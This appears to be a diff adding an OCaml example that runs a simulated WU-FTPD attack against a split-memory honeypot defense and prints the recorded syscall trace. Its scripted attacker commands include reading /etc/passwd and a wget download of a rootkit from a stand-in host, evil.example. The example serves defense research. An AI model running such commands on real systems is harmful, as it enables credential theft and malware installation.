@@ -1,0 +1,23 @@
+(* Honeypot: run the WU-FTPD victim under observe mode with Sebek-style
+   logging (paper §4.5.2, Fig. 5b/5d). The attack is detected at the moment
+   the first injected instruction is fetched; instead of killing the
+   process, the kernel locks the page to its data copy, lets the attack
+   proceed, and traces every syscall the compromised process makes — the
+   attacker's "keystrokes" into the shell they spawned.
+
+   Run with: dune exec examples/honeypot_observe.exe *)
+
+let () =
+  let defense =
+    Defense.split_with ~response:(Split_memory.Response.Observe { sebek = true }) ()
+  in
+  let commands = [ "id"; "cat /etc/passwd"; "wget http://evil.example/rootkit"; "q" ] in
+  let outcome, session = Attack.Realworld.run_wuftpd ~defense ~commands () in
+  Fmt.pr "attack outcome: %s@.@." (Attack.Runner.outcome_name outcome);
+  Fmt.pr "What the honeypot recorded:@.";
+  List.iter
+    (fun e -> Fmt.pr "  %a@." Kernel.Event_log.pp_event e)
+    (Kernel.Event_log.to_list (Kernel.Os.log session.k));
+  Fmt.pr
+    "@.Note the order: the detection fires BEFORE the first injected@.\
+     instruction runs, so nothing the attacker does escapes the trace.@."
